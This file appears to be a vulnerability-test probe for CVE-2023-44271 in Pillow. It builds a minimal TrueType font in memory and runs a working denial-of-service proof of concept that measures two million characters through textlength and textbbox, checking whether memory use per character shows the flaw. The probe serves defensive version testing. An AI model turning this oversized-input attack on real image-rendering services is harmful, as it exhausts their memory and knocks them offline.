# /// vertice-probe
# id = "PYSEC-2023-227"
# aliases = ["CVE-2023-44271"]
# package = "pillow"
# summary = "Measuring a text with a TrueType font allocates memory for each character of a text of any length."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-770"]
# kind = "dos"
# symbols = [
#   "PIL.ImageDraw.ImageDraw.textlength",
#   "PIL.ImageDraw.Draw",
#   "PIL.ImageFont.truetype",
#   "PIL.ImageFont.FreeTypeFont.getlength",
#   "PIL.ImageFont.FreeTypeFont.getbbox",
# ]
#
# [[affected]]
# package = "pillow"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "10.0.0" }] }]
#
# [cases]
# attack = "textlength of two million characters takes memory for each of them"
# [cases.variants]
# bounding_box = "the same through textbbox"
# [cases.controls]
# short_text = "an ordinary text has its length and box"
#
# [test]
# vulnerable = "9.5.0"
# fixed = "10.0.0"
# ///
"""CVE-2023-44271: unbounded text in ImageFont."""

import io
import json
import resource
import struct
import sys

CHARACTERS = 2000000  # just over the release's own limit would do; twice it makes the memory plain
BYTES_EACH = 10  # the layout needs 20 and more a character, the text itself 1


def font():
    """A TrueType font of two empty glyphs, half an em wide, made here so that none need be installed."""
    from PIL import ImageFont

    head = struct.pack(">IIIIHHQQhhhhHHhhh", 1 << 16, 0, 0, 0x5F0F3CF5, 0, 1000, 0, 0, 0, 0, 500, 700, 0, 8, 2, 0, 0)
    hhea = struct.pack(">IhhhHhhhhhhhhhhhH", 1 << 16, 800, -200, 0, 500, 0, 0, 500, 1, 0, 0, 0, 0, 0, 0, 0, 2)
    cmap = struct.pack(">HHHHI", 0, 1, 3, 1, 12) + struct.pack(">7H", 4, 32, 0, 4, 4, 1, 0)
    cmap += struct.pack(">5H", 65, 65535, 0, 65, 65535) + struct.pack(">hhHH", -64, 1, 0, 0)
    tables = {
        b"cmap": cmap,
        b"glyf": b"\0" * 4,
        b"head": head,
        b"hhea": hhea,
        b"hmtx": struct.pack(">HhHh", 500, 0, 500, 0),
        b"loca": b"\0" * 6,
        b"maxp": struct.pack(">I14H", 1 << 16, 2, *([0] * 13)),
    }
    start, directory, body = 12 + 16 * len(tables), struct.pack(">IHHHH", 1 << 16, len(tables), 64, 2, 48), b""
    for tag in sorted(tables):
        directory += tag + struct.pack(">III", 0, start + len(body), len(tables[tag]))
        body += tables[tag] + b"\0" * (-len(tables[tag]) % 4)
    return ImageFont.truetype(io.BytesIO(directory + body), 20, layout_engine=0)


def draw():
    from PIL import Image, ImageDraw

    return ImageDraw.Draw(Image.new("L", (8, 8)))


def peak():
    """Bytes; Linux counts in KiB, macOS in bytes."""
    used = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return used if sys.platform == "darwin" else used * 1024


def measure_and_look(measure):
    text = "A" * CHARACTERS
    measure("AAAA")
    before = peak()
    try:
        measure(text)
    except ValueError as error:
        if "too many characters" not in str(error):
            raise
        return "blocked", "ValueError: %s" % error
    each = (peak() - before) / float(CHARACTERS)
    if each < BYTES_EACH:
        return "error", "the text was measured, with only %.1f bytes a character" % each
    return "exploited", "%d characters took more than %d bytes of memory each" % (CHARACTERS, BYTES_EACH)


def attack():
    own, canvas = font(), draw()
    return measure_and_look(lambda text: canvas.textlength(text, font=own))


def bounding_box():
    own, canvas = font(), draw()
    return measure_and_look(lambda text: canvas.textbbox((0, 0), text, font=own))


def short_text():
    own, canvas = font(), draw()
    length, box = canvas.textlength("AAAA", font=own), canvas.textbbox((0, 0), "AAAA", font=own)
    good = length == 40 and box[2] - box[0] == 40
    return ("works", "four characters of 10 pixels") if good else ("broken", "%r %r" % (length, box))


CASES = {"attack": attack, "bounding_box": bounding_box, "short_text": short_text}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
